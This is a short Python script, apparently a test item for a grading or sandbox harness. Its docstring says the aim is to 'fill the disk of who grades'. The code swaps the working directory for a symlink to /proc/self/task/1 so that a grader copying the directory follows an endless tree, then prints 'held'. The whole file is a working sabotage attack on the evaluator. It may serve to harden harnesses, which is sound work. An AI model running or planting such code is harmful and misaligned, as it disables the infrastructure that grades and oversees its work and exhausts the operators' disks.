"""Lead the keeper to a file that has no size and no end, to fill the disk of who grades.

group: handing out
must: prints held
leaves: nothing
"""
# %%
import os

work = os.getcwd()
os.rename(work, work + "-away")
os.symlink("/proc/self/task/1", work)
print("held")
